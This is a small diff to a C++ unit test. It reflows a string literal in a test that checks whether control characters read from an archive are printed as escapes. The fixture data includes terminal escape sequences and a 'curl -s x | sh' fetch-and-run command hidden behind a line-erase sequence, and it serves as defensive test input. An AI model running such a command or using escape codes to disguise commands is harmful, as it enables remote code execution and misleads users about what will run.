@@ -135,7 +135,8 @@ TEST_F(ToolTest, ControlCharactersFromTarvArePrintedAsEscapes)
 {
     NotifyChannel::Reply checked = NotifyChannel::reply(true);
     checked.insert(QStringLiteral("lines"),
-                   QJsonArray{QStringLiteral("cpu.json: ok: \u201C\x1B]0;owned\x07" "CPU\u201D, 1 widgets, 1 of 108 nodes"),
+                   QJsonArray{QStringLiteral("cpu.json: ok: \u201C\x1B]0;owned\x07"
+                                             "CPU\u201D, 1 widgets, 1 of 108 nodes"),
                               QStringLiteral("  Runs a shell command: curl -s x | sh\r\x1B[2Kuptime")});
     replies.insert(QStringLiteral("screen.check"), checked);
     NotifyChannel::Reply listed = NotifyChannel::reply(true);
